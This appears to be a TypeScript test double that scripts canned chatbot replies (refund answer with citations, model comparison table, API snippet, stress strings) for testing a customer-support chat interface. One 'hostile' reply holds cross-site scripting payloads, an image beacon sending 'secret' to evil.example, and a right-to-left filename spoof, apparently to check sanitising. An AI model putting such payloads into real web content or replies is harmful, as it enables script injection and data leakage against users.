import type { Citation } from '../../shared-types/src/api/messages.ts';

export interface Script {
  text: string;
  tool?: string;
  citations?: Citation[];
  /** Ends the reply as failed after its text. */
  fails?: boolean;
}

const returns: Citation = {
  chunk_id: 'chk_1',
  document_id: 'doc_1',
  document_name: 'Returns and refunds.pdf',
  title: 'Returns and refunds',
  url: null,
  heading: null,
  score: 0.91,
  quote:
    'A bicycle may be returned within 30 days of delivery, unused and in its original box. Northwind collects it free of charge; the refund is made within five working days of its arrival at our workshop.',
};
const handbook: Citation = {
  chunk_id: 'chk_2',
  document_id: 'doc_2',
  document_name: 'Customer handbook 2025.docx',
  title: 'Customer handbook 2025',
  url: null,
  heading: null,
  score: 0.83,
  quote:
    'Collection is arranged by the customer desk. Please keep the box: without it, the carrier cannot take the bicycle.',
};

const table = `Here are the three city models side by side:

| Model | Frame | Weight | Range | Price |
| --- | --- | ---: | ---: | ---: |
| **Harbour** | Aluminium | 14.2 kg | – | €890 |
| **Harbour E** | Aluminium | 19.8 kg | 90 km | €2,190 |
| **Quay Carbon** | Carbon | 9.9 kg | – | €2,450 |

If you ride mostly in town, *Harbour* is the easiest to live with.`;

const code = `Ask for a key first, then send a request:

\`\`\`ts
const response = await fetch('https://api.example.com/v1/bikes', {
  headers: { authorization: \`Bearer \${key}\` },
});
const { data } = await response.json();
\`\`\`

The answer holds \`data\` and \`meta\`; see [the reference](https://example.com/docs).`;

const hostile = `<script>window.hacked = 1</script><img src=x onerror="window.hacked=1">
[click me](javascript:window.hacked=1) and [data](data:text/html,x) and ![spy](https://evil.example/p.png?q=secret)

<iframe srcdoc="<script>parent.hacked=1</script>"></iframe> <style>*{display:none}</style> \u202Egnp.exe\u202C`;

const plain = `You can return any bike within **30 days** of delivery, as long as it is unused and in its box [1].

1. Write to us here or call the customer desk.
2. We collect the bike **free of charge** [2].
3. The refund reaches you within five working days of its arrival.

Would you like me to arrange the collection?`;

/** The double's replies; a word of the question selects one. */
export function chooseReply(question: string): Script {
  const asked = question.toLowerCase();
  if (asked.includes('table') || asked.includes('compare')) return { text: table };
  if (asked.includes('api') || asked.includes('code')) return { text: code, tool: 'search_handbook' };
  if (asked.includes('hostile')) return { text: hostile };
  if (asked.includes('fail')) return { text: 'Let me see', fails: true };
  if (asked.includes('long')) return { text: Array.from({ length: 400 }, (_, at) => `word${at}`).join(' ') };
  if (asked.includes('brackets')) return { text: '['.repeat(90_000) };
  if (asked.includes('cells'))
    return { text: `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${`${'|b'.repeat(300)}|\n`.repeat(150)}` };
  if (asked.includes('huge')) return { text: 'lorem ipsum dolor '.repeat(60_000) };
  return { text: plain, tool: 'search_handbook', citations: [returns, handbook] };
}
